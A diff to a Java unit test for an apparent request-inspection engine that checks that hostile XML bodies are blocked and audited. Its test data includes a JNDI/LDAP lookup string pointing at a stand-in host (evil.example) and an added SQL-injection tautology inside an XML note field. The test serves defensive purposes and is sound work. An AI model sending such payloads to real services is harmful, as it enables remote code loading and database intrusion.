@@ -169,12 +169,16 @@ class InputInspectionTest {
         "<order id=\"7\"><note>${jndi:ldap://evil.example/a}</note></order>"));
     Decision benign = engine.evaluate(FakeRequest.of("POST", "/import").body("application/xml",
         "<order id=\"7\"><note>Leave at the door</note></order>"));
+    Decision afterAFault = engine.evaluate(FakeRequest.of("POST", "/import").body("application/xml",
+        "<order><a>&undeclared;</a><note>x' or 1=1</note></order>"));
 
     assertTrue(xxe.blocks());
     assertTrue(inValue.blocks());
     assertFalse(benign.blocks());
+    assertTrue(afterAFault.blocks(), "what follows a fault of the safe reader is still inspected");
     List<Map<String, Object>> lines = auditLines();
     assertEquals("body", at(lines.get(0), "threat.location"));
+    assertEquals("body", at(lines.get(lines.size() - 1), "threat.location"));
     assertEquals("xxe", at(lines.get(0), "threat.technique"));
     assertEquals("xml./order/note", at(lines.get(1), "threat.location"));
     assertTrue(inspected.contains("XML id=7"), inspected.toString());
